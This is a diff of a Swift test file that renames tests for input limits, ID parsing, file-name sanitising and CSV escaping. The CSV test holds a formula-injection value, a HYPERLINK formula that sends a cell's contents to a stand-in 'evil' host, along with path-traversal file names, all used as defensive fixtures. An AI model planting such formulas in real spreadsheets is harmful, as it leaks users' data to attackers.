@@ -3,11 +3,11 @@ import Testing
 
 @testable import Appliance
 
-/// Text from outside: how much of it, and by what it is taken apart.
+/// Limits and parsing of text from outside.
 @Suite(.timeLimit(.minutes(30))) struct TextLimitTests {
   static let fat = "a" + String(repeating: "\u{301}", count: 100_000)
 
-  @Test func `one letter with a hundred thousand marks is too long for any name`() async throws {
+  @Test func `one letter with a hundred thousand combining marks is too long for any name`() async throws {
     try await TestAppliance.run { test in
       let lea = try await test.person("lea")
       for (field, value) in [("name", Self.fat), ("topic", Self.fat)] {
@@ -26,7 +26,7 @@ import Testing
     }
   }
 
-  @Test func `a text is cut to so many characters and four bytes for each`() {
+  @Test func `a text is truncated to a number of characters and four bytes for each`() {
     #expect("été".fits(3))
     #expect(!"été".fits(2))
     #expect("👨‍👩‍👧‍👦 x".fits(10))
@@ -37,19 +37,19 @@ import Testing
   }
 
   @Test(arguments: ["+5", "-5", " 5", "5 ", "٥", "5\u{301}", "", "99999999999999999999", "0x5"])
-  func `an id is digits and nothing else`(text: String) { #expect(Int64(digits: text) == nil) }
+  func `an id consists of digits only`(text: String) { #expect(Int64(digits: text) == nil) }
 
   @Test(arguments: [
     ("a/\u{301}b", "\u{301}b"), ("..\\\u{301}x", "\u{301}x"), (".\u{301}..", ".\u{301}"),
     ("\u{200B}", "file"),
   ])
-  func `a mark behind a slash or a dot hides neither`(raw: String, name: String) {
+  func `a combining mark after a slash or dot does not hide it`(raw: String, name: String) {
     let text = FileName(raw).text
     #expect(!text.unicodeScalars.contains("/") && !text.unicodeScalars.contains("\\"))
     if name == "file" { #expect(text == name) }
   }
 
-  @Test func `no cell begins a formula, wherever a spreadsheet splits`() {
+  @Test func `no cell starts a formula, at whatever delimiter a spreadsheet splits`() {
     var csv = CSVText()
     csv.row([
       "Al;=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "a\t+1", "b; \"=2", "c\n@x", "-1", "plain; text",
